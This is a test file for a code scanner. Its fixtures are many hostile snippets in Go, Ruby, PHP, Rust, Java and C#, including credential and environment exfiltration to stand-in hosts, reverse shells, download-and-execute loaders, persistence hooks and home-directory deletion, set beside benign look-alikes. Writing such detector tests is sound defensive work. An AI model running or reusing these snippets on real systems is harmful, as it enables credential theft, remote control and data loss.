import { expect, test } from "vitest";
import { found } from "../../../test-support/package-of";

async function worst(path: string, code: string): Promise<string> {
  const findings = await found(path, code);
  return findings[0]?.split(":")[0] ?? "nothing";
}

test.each([
  [
    "a.go",
    'func main() {\n\thome, _ := os.UserHomeDir()\n\tf, err := os.Open(home + "/.aws/credentials")\n\tif err != nil {\n\t\treturn\n\t}\n\tdefer f.Close()\n\treq, _ := http.NewRequest("POST", "https://in.loghub.biz/u", f)\n\tclient := &http.Client{}\n\tclient.Do(req)\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.go",
    'func main() {\n\tm := map[string]string{}\n\tfor _, e := range os.Environ() {\n\t\tp := strings.SplitN(e, "=", 2)\n\t\tm[p[0]] = p[1]\n\t}\n\tb, _ := json.Marshal(m)\n\thttp.Post("https://in.loghub.biz/e", "application/json", bytes.NewBuffer(b))\n}\n',
    "block data-exfiltration",
  ],
  [
    "a.go",
    'func main() {\n\tresp, err := http.Get("http://203.0.113.9/p")\n\tif err != nil {\n\t\treturn\n\t}\n\tb, _ := io.ReadAll(resp.Body)\n\tos.WriteFile("/tmp/.p", b, 0755)\n\texec.Command("/tmp/.p").Start()\n}\n',
    "block evaluated-download",
  ],
  [
    "a.go",
    'func main() {\n\tconn, _ := net.Dial("tcp", "203.0.113.7:4444")\n\tfor {\n\t\tbuf := make([]byte, 1024)\n\t\tn, _ := conn.Read(buf)\n\t\tout, _ := exec.Command("sh", "-c", string(buf[:n])).Output()\n\t\tconn.Write(out)\n\t}\n}\n',
    "block remote-command-execution",
  ],
  [
    "a.go",
    'func main() {\n\tp, _ := base64.StdEncoding.DecodeString("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo")\n\texec.Command("sh", "-c", string(p)).Run()\n}\n',
    "block encoded-remote-code",
  ],
  [
    "a.go",
    'func timed(n string) {\n\tnet.LookupHost(n)\n}\nfunc main() {\n\ttimed("kubernetes.io")\n\th, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(h, ".kube", "config"))\n\ttimed(fmt.Sprintf("%d.%s.%s", 1, base32.StdEncoding.EncodeToString(b), "x.loghub.biz"))\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.rb",
    'class Sync\n  def initialize(url)\n    @url = url\n  end\n  def run\n    body = collect\n    Net::HTTP.post(URI(@url), body)\n  end\n  def collect\n    %w[.ssh/id_rsa .netrc].map { |f| File.read(File.join(Dir.home, f)) rescue "" }.join\n  end\nend\nSync.new("https://in.loghub.biz/k").run\n',
    "block secret-exfiltration",
  ],
  [
    "a.rb",
    'require "net/http"\nhttp = Net::HTTP.new("in.loghub.biz", 443)\nreq = Net::HTTP::Post.new("/k")\nreq.body = File.read("#{ENV[\'HOME\']}/.aws/credentials")\nhttp.request(req)\n',
    "block secret-exfiltration",
  ],
  [
    "a.rb",
    'require "socket"\ns = TCPSocket.new("203.0.113.7", 4444)\nwhile (line = s.gets)\n  IO.popen(line, "r") { |io| s.print io.read }\nend\n',
    "block remote-command-execution",
  ],
  [
    "a.rb",
    'require "base64"\neval(Base64.decode64("cHV0cyAxO3B1dHMgMjtwdXRzIDM7cHV0cyA0"))\n',
    "block evaluated-decoded-text",
  ],
  ["a.rb", "code = <<~SH\n  curl -s http://203.0.113.9/x | sh\nSH\nsystem(code)\n", "block remote-code"],
  [
    "a.php",
    "<?php\nclass Report {\n  private $to = 'https://in.loghub.biz/e';\n  function send() {\n    $ch = curl_init($this->to);\n    curl_setopt($ch, CURLOPT_POST, true);\n    curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(getenv()));\n    curl_exec($ch);\n  }\n}\n(new Report())->send();\n",
    "block data-exfiltration",
  ],
  [
    "a.php",
    '<?php\n$code = file_get_contents("https://cdn.tool-stats.dev/u.txt");\neval("?>" . $code);\n',
    "block evaluated-download",
  ],
  ["a.php", '<?php\n$f = "sys" . "tem";\n$f($_REQUEST["q"]);\n', "block remote-command-execution"],
  [
    "a.php",
    '<?php\n$s = fsockopen("203.0.113.7", 4444);\n$p = proc_open("/bin/sh -i", [0 => $s, 1 => $s, 2 => $s], $pipes);\n',
    "block socket-shell",
  ],
  [
    "a.rs",
    'use std::fs;\nfn main() -> Result<(), Box<dyn Error>> {\n    let home = dirs::home_dir().unwrap();\n    let key = fs::read_to_string(home.join(".ssh/id_ed25519"))?;\n    let client = reqwest::blocking::Client::new();\n    client.post("https://in.loghub.biz/k").body(key).send()?;\n    Ok(())\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.rs",
    'fn main() {\n    let all: HashMap<String, String> = std::env::vars().collect();\n    let body = serde_json::to_string(&all).unwrap();\n    ureq::post("https://in.loghub.biz/e").send_string(&body);\n}\n',
    "block data-exfiltration",
  ],
  [
    "a.rs",
    'fn main() {\n    let body = match reqwest::blocking::get("http://203.0.113.9/p") {\n        Ok(r) => r.bytes().unwrap(),\n        Err(_) => return,\n    };\n    std::fs::write("/tmp/p", &body).unwrap();\n    Command::new("/tmp/p").spawn().unwrap();\n}\n',
    "block evaluated-download",
  ],
  [
    "a.rs",
    'fn main() {\n    let mut s = TcpStream::connect("203.0.113.7:4444").unwrap();\n    let fd = s.as_raw_fd();\n    Command::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn();\n}\n',
    "block socket-shell",
  ],
  [
    "build.rs",
    'fn main() {\n    Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9/x | sh").status().unwrap();\n}\n',
    "block remote-code",
  ],
  [
    "A.java",
    'class A {\n  void run() throws Exception {\n    Socket s = new Socket("203.0.113.7", 4444);\n    Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\n    InputStream pi = p.getInputStream();\n  }\n}\n',
    "block socket-shell",
  ],
  [
    "A.java",
    'class A {\n  void run(String data) throws Exception {\n    byte[] code = Base64.getDecoder().decode(data);\n    new ScriptEngineManager().getEngineByName("js").eval(new String(code));\n  }\n}\n',
    "block evaluated-decoded-text",
  ],
  [
    "a.cs",
    'class A {\n  static async Task Main() {\n    var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\n    var key = File.ReadAllText(Path.Combine(home, ".ssh", "id_rsa"));\n    using var http = new HttpClient();\n    await http.PostAsync("https://in.loghub.biz/k", new StringContent(key));\n  }\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.cs",
    'class A {\n  static void Main() {\n    var all = JsonSerializer.Serialize(Environment.GetEnvironmentVariables());\n    new WebClient().UploadString("https://in.loghub.biz/e", all);\n  }\n}\n',
    "block data-exfiltration",
  ],
  [
    "a.cs",
    'class A {\n  static void Main() {\n    var bytes = new WebClient().DownloadData("https://in.loghub.biz/p.dll");\n    Assembly.Load(bytes).EntryPoint.Invoke(null, null);\n  }\n}\n',
    "block evaluated-download",
  ],
  [
    "a.cs",
    'class A {\n  static void Main() {\n    Process.Start(new ProcessStartInfo { FileName = "powershell", Arguments = "-c iex (iwr http://203.0.113.9/x)" });\n  }\n}\n',
    "block remote-code",
  ],
  [
    "A.java",
    'public final class Backup {\n  private static final String ENDPOINT = "https://sync.devmetrics.biz/v1/upload";\n  private final HttpClient client = HttpClient.newHttpClient();\n\n  public static void main(String[] args) throws Exception {\n    new Backup().run();\n  }\n\n  private void run() throws IOException, InterruptedException {\n    Path home = Paths.get(System.getProperty("user.home"));\n    Path key = home.resolve(".ssh").resolve("id_rsa");\n    if (!Files.exists(key)) return;\n    send(Files.readString(key));\n  }\n\n  private void send(String body) throws IOException, InterruptedException {\n    HttpRequest request = HttpRequest.newBuilder()\n      .uri(URI.create(ENDPOINT))\n      .header("Content-Type", "text/plain")\n      .POST(HttpRequest.BodyPublishers.ofString(body))\n      .build();\n    client.send(request, HttpResponse.BodyHandlers.discarding());\n  }\n}\n',
    "block secret-exfiltration",
  ],
  [
    "A.java",
    'public class EnvReport {\n  private final String target;\n  public EnvReport(String target) { this.target = target; }\n\n  static String collect() {\n    StringBuilder sb = new StringBuilder();\n    for (Map.Entry<String, String> e : System.getenv().entrySet()) {\n      sb.append(e.getKey()).append("=").append(e.getValue()).append("\\n");\n    }\n    return sb.toString();\n  }\n\n  void post() throws Exception {\n    HttpURLConnection conn = (HttpURLConnection) new URL(target).openConnection();\n    conn.setRequestMethod("POST");\n    conn.setDoOutput(true);\n    try (OutputStream os = conn.getOutputStream()) {\n      os.write(collect().getBytes(StandardCharsets.UTF_8));\n    }\n    conn.getResponseCode();\n  }\n\n  public static void main(String[] a) throws Exception {\n    new EnvReport("https://collect.env-stats.net/in").post();\n  }\n}\n',
    "block data-exfiltration",
  ],
  [
    "A.java",
    'class Updater {\n  static void update() throws Exception {\n    Path tmp = Files.createTempFile("upd", ".sh");\n    try (InputStream in = new URL("http://203.0.113.9/stage2.sh").openStream()) {\n      Files.copy(in, tmp, StandardCopyOption.REPLACE_EXISTING);\n    }\n    tmp.toFile().setExecutable(true);\n    Runtime.getRuntime().exec(new String[]{"/bin/sh", tmp.toString()});\n  }\n}\n',
    "block evaluated-download",
  ],
  [
    "A.java",
    'public class Agent implements Runnable {\n  @Override\n  public void run() {\n    try (Socket socket = new Socket("c2.quietharbour.dev", 9001);\n       BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));\n       PrintWriter out = new PrintWriter(socket.getOutputStream(), true)) {\n      String line;\n      while ((line = in.readLine()) != null) {\n        Process proc = Runtime.getRuntime().exec(new String[] { "sh", "-c", line });\n        try (BufferedReader r = new BufferedReader(new InputStreamReader(proc.getInputStream()))) {\n          r.lines().forEach(out::println);\n        }\n      }\n    } catch (IOException ignored) { }\n  }\n  public static void main(String[] args) { new Thread(new Agent()).start(); }\n}\n',
    "block remote-command-execution",
  ],
  [
    "A.java",
    'public class A1 {\n  static final List<String> WANTED = List.of(".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".npmrc");\n  public static void main(String[] args) {\n    String base = System.getenv("HOME");\n    for (String w : WANTED) {\n      File f = new File(base, w);\n      if (f.exists()) upload(f);\n    }\n  }\n  private static void upload(File f) {\n    try {\n      HttpURLConnection con = (HttpURLConnection) URI.create("https://drop.quietharbour.dev/f").toURL().openConnection();\n      con.setRequestMethod("PUT");\n      con.setDoOutput(true);\n      Files.copy(f.toPath(), con.getOutputStream());\n      con.getResponseCode();\n    } catch (IOException e) {\n      // ignore\n    }\n  }\n}\n',
    "block secret-exfiltration",
  ],
  [
    "A.java",
    'class A8 {\n  public static void main(String[] a) throws Exception {\n    String home = System.getProperty("user.home");\n    try (FileWriter w = new FileWriter(home + "/.zshrc", true)) {\n      w.write("\\n(curl -s http://203.0.113.9/b | sh) &>/dev/null &\\n");\n    }\n  }\n}\n',
    "block program-persistence",
  ],
  [
    "a.cs",
    'var values = new Dictionary<string, string>();\nforeach (DictionaryEntry e in Environment.GetEnvironmentVariables())\n  values[e.Key.ToString()!] = e.Value?.ToString() ?? "";\n\nusing var client = new HttpClient { BaseAddress = new Uri("https://collect.env-stats.net/") };\nawait client.PostAsJsonAsync("in", values);\n',
    "block data-exfiltration",
  ],
  [
    "a.cs",
    'class Req {\n  static void Main() {\n  var home = Environment.GetEnvironmentVariable("HOME");\n  byte[] data = File.ReadAllBytes(home + "/.ssh/id_ed25519");\n  var request = (HttpWebRequest)WebRequest.Create("https://in.loghub.biz/k");\n  request.Method = "POST";\n  request.ContentLength = data.Length;\n  using (var stream = request.GetRequestStream()) {\n    stream.Write(data, 0, data.Length);\n  }\n  using var response = request.GetResponse();\n  }\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.cs",
    'class Msg {\n  public string Url { get; set; } = "https://in.loghub.biz/u";\n  string ReadKey() => File.ReadAllText($"{Environment.GetFolderPath(Environment.SpecialFolder.UserProfile)}/.ssh/id_rsa");\n  public async System.Threading.Tasks.Task SendAsync() {\n  var msg = new HttpRequestMessage(HttpMethod.Post, Url);\n  msg.Content = new StringContent(ReadKey());\n  var c = new HttpClient();\n  await c.SendAsync(msg).ConfigureAwait(false);\n  }\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.cs",
    'class Poll {\n  private readonly HttpClient http = new HttpClient();\n  async Task LoopAsync() {\n  while (true) {\n    var order = await http.GetStringAsync("https://tasks.botfarm.biz/next");\n    if (!string.IsNullOrWhiteSpace(order)) {\n    Process.Start("/bin/sh", $"-c \\"{order}\\"");\n    }\n    await Task.Delay(30000);\n  }\n  }\n}\n',
    "block evaluated-download",
  ],
  [
    "a.cs",
    'using System; using System.Net.Http; using System.IO; using System.Diagnostics; using System.Threading.Tasks;\nclass B9 {\n  static async Task Main() {\n  using var h = new HttpClient();\n  using var s = await h.GetStreamAsync("https://cdn.toolbox-ext.biz/agent.exe");\n  var path = Path.Combine(Path.GetTempPath(), "agent.exe");\n  using (var f = File.Create(path)) { await s.CopyToAsync(f); }\n  Process.Start(new ProcessStartInfo(path) { UseShellExecute = true });\n  }\n}\n',
    "block evaluated-download",
  ],
  [
    "a.cs",
    'using System; using System.IO; using System.IO.Compression; using System.Net.Http;\nclass B4 {\n  static async System.Threading.Tasks.Task Main() {\n  string src = Path.Combine(Environment.GetEnvironmentVariable("USERPROFILE"), ".ssh");\n  string zip = Path.GetTempFileName();\n  ZipFile.CreateFromDirectory(src, zip);\n  var content = new MultipartFormDataContent();\n  content.Add(new StreamContent(File.OpenRead(zip)), "f", "x.zip");\n  await new HttpClient().PostAsync("https://in.loghub.biz/z", content);\n  }\n}\n',
    "block secret-exfiltration",
  ],
  [
    "a.cs",
    'class Run {\n  static void Main() {\n  var exe = System.IO.Path.Combine(System.Environment.GetFolderPath(System.Environment.SpecialFolder.ApplicationData), "svc.exe");\n  new System.Net.WebClient().DownloadFile("https://cdn.pkg-tools.biz/svc.exe", exe);\n  using var key = Registry.CurrentUser.OpenSubKey(@"Software\\Microsoft\\Windows\\CurrentVersion\\Run", true);\n  key.SetValue("Updater", exe);\n  }\n}\n',
    "block program-persistence",
  ],
  [
    "a.cs",
    "using System; using System.IO;\nclass Wipe { static void Main() { var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile); Directory.Delete(home, true); } }\n",
    "block file-destruction",
  ],
])("follows %s: %j", async (path, code, finding) => {
  expect(await worst(path, code)).toBe(finding);
});

test.each([
  [
    "a.go",
    'func main() {\n\tkey := os.Getenv("NOTES_API_KEY")\n\tbody, _ := json.Marshal(map[string]string{"text": text})\n\treq, _ := http.NewRequest("POST", "https://api.notes.dev/v1", bytes.NewReader(body))\n\treq.Header.Set("Authorization", "Bearer "+key)\n\thttp.DefaultClient.Do(req)\n}\n',
  ],
  [
    "a.go",
    'func main() {\n\tcmd := exec.Command("git", "log", "--oneline")\n\tcmd.Env = os.Environ()\n\tout, _ := cmd.Output()\n\tfmt.Println(string(out))\n}\n',
  ],
  [
    "a.go",
    'func load() Config {\n\tb, _ := os.ReadFile("config.json")\n\tvar c Config\n\tjson.Unmarshal(b, &c)\n\treturn c\n}\n',
  ],
  [
    "a.go",
    'func serve() {\n\tl, _ := net.Listen("tcp", ":8080")\n\tfor {\n\t\tc, _ := l.Accept()\n\t\tio.Copy(c, c)\n\t}\n}\n',
  ],
  ["a.rb", 'Dir.glob("lib/**/*.rb").each { |f| require File.expand_path(f) }\nputs ENV.fetch("HOME")\n'],
  ["a.rb", 'require "digest"\nputs Digest::SHA256.file(ARGV[0]).hexdigest\n'],
  ["a.rb", 'store = {}\nstore["a"] = File.read("a.txt")\nFile.write("b.txt", store.to_json)\nputs `git status`\n'],
  [
    "a.php",
    "<?php\n$stmt = $pdo->prepare('SELECT * FROM t WHERE id = ?');\n$stmt->execute([$_GET['id']]);\n$db->exec('VACUUM');\n",
  ],
  [
    "a.php",
    "<?php\nrequire __DIR__ . '/vendor/autoload.php';\n$c = json_decode(base64_decode($row['config']), true);\nprint_r(array_map($c['fn'] ?? 'trim', $rows));\n",
  ],
  [
    "a.rs",
    'fn main() {\n    let text = std::fs::read_to_string("Cargo.toml").unwrap();\n    let out = Command::new("cargo").args(["build", "--release"]).output().unwrap();\n    println!("{} {:?}", text.len(), out);\n}\n',
  ],
  [
    "a.rs",
    'fn main() {\n    let token = env::var("NOTES_TOKEN").unwrap();\n    let r = client.get("https://api.notes.dev/v1").bearer_auth(token).send();\n}\n',
  ],
  [
    "A.java",
    'class A {\n  Map<String, String> all = new HashMap<>();\n  void keep() throws Exception {\n    all.put("env", System.getenv("PATH"));\n    for (Path p : Files.list(Paths.get("src")).toList()) all.put(p.toString(), Files.readString(p));\n    new PrintWriter("out.txt").println(all);\n  }\n}\n',
  ],
  [
    "A.java",
    'class A {\n  void build() throws Exception {\n    new ProcessBuilder("mvn", "-q", "package").inheritIO().start().waitFor();\n    log.info(InetAddress.getLocalHost().getHostName());\n  }\n}\n',
  ],
  [
    "a.cs",
    'class A {\n  async Task Run() {\n    var key = Environment.GetEnvironmentVariable("NOTES_KEY");\n    client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", key);\n    await client.PostAsync("https://api.notes.dev/v1", new StringContent(text));\n    File.WriteAllText("log.txt", key);\n  }\n}\n',
  ],
  [
    "a.cs",
    'class A {\n  void Run() {\n    var image = Convert.FromBase64String(row.Image);\n    using var s = new MemoryStream(image);\n    Bitmap.FromStream(s).Save("a.png");\n    Process.Start("git", "status");\n  }\n}\n',
  ],
  [
    "A.java",
    'public class Notes {\n  private final String key = System.getenv("NOTES_API_KEY");\n  private final HttpClient client = HttpClient.newHttpClient();\n  public String create(String text) throws Exception {\n    HttpRequest r = HttpRequest.newBuilder(URI.create("https://api.notes.dev/v1/notes"))\n      .header("Authorization", "Bearer " + key)\n      .header("Content-Type", "application/json")\n      .POST(HttpRequest.BodyPublishers.ofString("{\\"text\\":\\"" + text + "\\"}"))\n      .build();\n    return client.send(r, HttpResponse.BodyHandlers.ofString()).body();\n  }\n}\n',
  ],
  [
    "A.java",
    'public class Conf {\n  static Properties load(String path) throws IOException {\n    Properties p = new Properties();\n    try (InputStream in = new FileInputStream(path)) { p.load(in); }\n    return p;\n  }\n  public static void main(String[] a) throws Exception {\n    Properties p = load("app.properties");\n    byte[] icon = Base64.getDecoder().decode(p.getProperty("icon"));\n    try (FileOutputStream out = new FileOutputStream("icon.png")) { out.write(icon); }\n    System.getenv().forEach((k, v) -> { if (k.startsWith("APP_")) System.out.println(k); });\n  }\n}\n',
  ],
  [
    "A.java",
    "public class Echo {\n  public static void main(String[] args) throws Exception {\n    try (ServerSocket server = new ServerSocket(8080)) {\n      while (true) {\n        Socket s = server.accept();\n        new Thread(() -> {\n          try (BufferedReader in = new BufferedReader(new InputStreamReader(s.getInputStream())); PrintWriter out = new PrintWriter(s.getOutputStream(), true)) {\n            out.println(in.readLine());\n          } catch (IOException e) { e.printStackTrace(); }\n        }).start();\n      }\n    }\n  }\n}\n",
  ],
  [
    "A.java",
    'public class Git {\n  static String git(String... args) throws IOException {\n    Process p = new ProcessBuilder(args).start();\n    return new BufferedReader(new InputStreamReader(p.getInputStream())).lines().collect(Collectors.joining("\\n"));\n  }\n  public static void main(String[] a) throws IOException {\n    System.out.println(git("git", "log", "--oneline", "-n", "5"));\n    System.out.println(git("git", "rev-parse", "HEAD"));\n  }\n}\n',
  ],
  [
    "a.cs",
    'using System; using System.Net.Http; using System.Net.Http.Headers; using System.Text; using System.Threading.Tasks;\npublic class NotesClient {\n  private readonly HttpClient _http;\n  public NotesClient(HttpClient http) {\n  _http = http;\n  _http.BaseAddress = new Uri("https://api.notes.dev/");\n  _http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", Environment.GetEnvironmentVariable("NOTES_KEY"));\n  }\n  public async Task<string> AddAsync(string text) {\n  var r = await _http.PostAsync("v1/notes", new StringContent(text, Encoding.UTF8, "application/json"));\n  return await r.Content.ReadAsStringAsync();\n  }\n}\n',
  ],
  [
    "a.cs",
    'using System.Net.Http; using System.IO;\nclass Dl { static async System.Threading.Tasks.Task Main() {\n  using var http = new HttpClient();\n  var bytes = await http.GetByteArrayAsync("https://data.notes.dev/words.json");\n  await File.WriteAllBytesAsync("words.json", bytes);\n  System.Console.WriteLine(bytes.Length);\n} }\n',
  ],
  [
    "a.cs",
    'using System.Reflection; using System.IO;\nclass Plug {\n  void Load(string dir) {\n  foreach (var f in Directory.GetFiles(dir, "*.dll")) {\n    var a = Assembly.LoadFrom(f);\n    foreach (var t in a.GetTypes()) if (typeof(IPlugin).IsAssignableFrom(t)) plugins.Add((IPlugin)Activator.CreateInstance(t)!);\n  }\n  }\n}\n',
  ],
])("leaves alone what %s does honestly: %j", async (path, code) => {
  expect(await worst(path, code)).toBe("nothing");
});

test.each([
  ["a.rs", `fn main() { let ${"&".repeat(60_000)}x = y; }`],
  ["a.go", `func main() { x := ${"f(".repeat(20_000)}${")".repeat(20_000)} }`],
  ["a.rb", `x = ${"[".repeat(20_000)}${"]".repeat(20_000)}`],
  ["a.php", `<?php if (1) { ${"if (1) { ".repeat(10_000)}${"}".repeat(10_001)}`],
])("reads %s, however deep it nests", async (path, code) => {
  expect(await worst(path, code)).toBe("nothing");
});
